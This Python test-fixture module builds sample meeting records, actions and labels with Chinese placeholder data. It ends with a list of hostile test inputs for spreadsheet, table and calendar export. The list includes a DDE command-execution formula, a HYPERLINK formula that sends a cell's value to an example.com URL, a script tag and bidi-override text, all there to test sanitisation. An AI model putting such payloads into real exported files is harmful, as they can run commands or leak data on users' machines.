"""Records for tests: every builder gives a whole, valid value, changed where the test says so."""

from __future__ import annotations

import datetime as dt
from dataclasses import fields
from typing import Any

from pipeline.document.labels import Labels, load_labels
from pipeline.document.theme import LABELS
from schemas.model import (
    END_OF_DAY,
    Action,
    Due,
    Issue,
    Language,
    Meeting,
    MeetingTime,
    Person,
    Record,
    Rich,
    Topic,
)


def make_person(**changes: Any) -> Person:
    """The owner of the action that `make_action` gives."""
    return Person(
        **{
            "name": "沈亦舟",
            "department": "研发中心",
            "email": "shen.yizhou@example.com",
            **changes,
        }
    )


def make_due(text: str) -> Due:
    """A due date from `2024-05-24` or `2024-05-24 17:00`."""
    day, _, time = text.partition(" ")
    if time == "24:00":
        return Due(dt.date.fromisoformat(day), END_OF_DAY)
    return Due(dt.date.fromisoformat(day), dt.time.fromisoformat(time) if time else None)


def make_action(**changes: Any) -> Action:
    """One action in progress; `due` may be given as text."""
    values: dict[str, Any] = {
        "id": "A1",
        "task": "完成固件冻结并提交低温验证报告",
        "department": "研发中心",
        "owner": "沈亦舟",
        "deliverable": "低温验证报告",
        "due": "2024-05-24",
        **changes,
    }
    if isinstance(values["due"], str):
        values["due"] = make_due(values["due"])
    return Action(**values)


def make_issue(*actions: Action, **changes: Any) -> Issue:
    """One problem with `actions`, or with a single one where none is given."""
    return Issue(
        **{"problem": "低温环境下通信中断", "actions": actions or (make_action(),), **changes}
    )


def make_meeting(**changes: Any) -> Meeting:
    """The basic information of a meeting on 10 May 2024 at 14:00."""
    return Meeting(
        **{
            "id": "2024-05-10-launch",
            "subject": "智能水表二代产品上市协同",
            "departments": ("产品部", "研发中心"),
            "participants": (
                make_person(),
                make_person(name="周慕白", department="产品部", email=""),
            ),
            "time": MeetingTime(dt.date(2024, 5, 10), dt.time(14), dt.time(15, 30)),
            "form": "线下会议",
            "recorder": "周慕白",
            "languages": (Language.CHINESE,),
            **changes,
        }
    )


def make_record(*, actions: tuple[Action, ...] | None = None, **changes: Any) -> Record:
    """A record with one topic and one issue.

    A change goes to the record or, by its name, to its meeting; `actions` are those of the one
    issue, and without any there is no issue.
    """
    own = {field.name for field in fields(Record)}
    if actions is not None:
        changes["issues"] = (make_issue(*actions),) if actions else ()
    values: dict[str, Any] = {
        "meeting": make_meeting(
            **{name: value for name, value in changes.items() if name not in own}
        ),
        "topics": (Topic("固件冻结范围", Rich("固件于 5 月 24 日冻结。")),),
        "issues": (make_issue(),),
    }
    return Record(**{**values, **{name: value for name, value in changes.items() if name in own}})


def make_labels(*languages: str) -> Labels:
    """The built-in labels, in Chinese where no language is named."""
    return load_labels(LABELS, tuple(Language(tag) for tag in languages or ("zh-CN",)))


HOSTILE_TEXTS = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "＝1+1",
    '=HYPERLINK("https://example.com/?x="&A1,"点此")',
    "\t=1+1",
    " \u200b=1+1",
    "第一行\n=1+1",
    "第一行\r\n第二行\u2028第三行\u0085第四行",
    "好;=1+1",
    '"=1+1"',
    "https://example.com/a_b?x=1&y=2",
    "mailto:nobody@example.com",
    "internal:'按部门'!A1",
    "007",
    "1E5",
    "TRUE",
    "_x0041_",
    "a|b\\|c\\",
    "<script>alert(1)</script> &amp; <b>",
    "**粗** _斜_ `码` [链](https://example.com) ![图](x.png) ~~删~~ $x$",
    "BEGIN:VEVENT\nSUMMARY:假\nEND:VEVENT",
    "a\\nb,c;d:e",
    "مرحبا بالعالم (abc) 123",
    "\u202eright to left\u202c",
    "👩‍👩‍👧‍👦 𠮷 ㍿",
    "长" * 5_000,
)
"""What may do harm in a sheet, a table or a calendar, and what is often changed there."""
